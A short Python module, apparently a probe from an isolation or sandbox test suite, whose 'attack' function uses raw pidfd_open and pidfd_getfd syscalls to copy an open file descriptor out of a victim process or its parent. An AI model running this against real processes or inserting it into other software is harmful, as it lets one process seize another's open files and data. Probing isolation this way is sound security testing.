"""Takes an open file out of another process by pidfd_getfd."""
import ctypes
import os


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (target["victim"], os.getppid()):
        opened = libc.syscall(434, pid, 0)
        if opened >= 0 and libc.syscall(438, opened, 1, 0) >= 0:
            return f"has a descriptor of {pid}"
    return ""
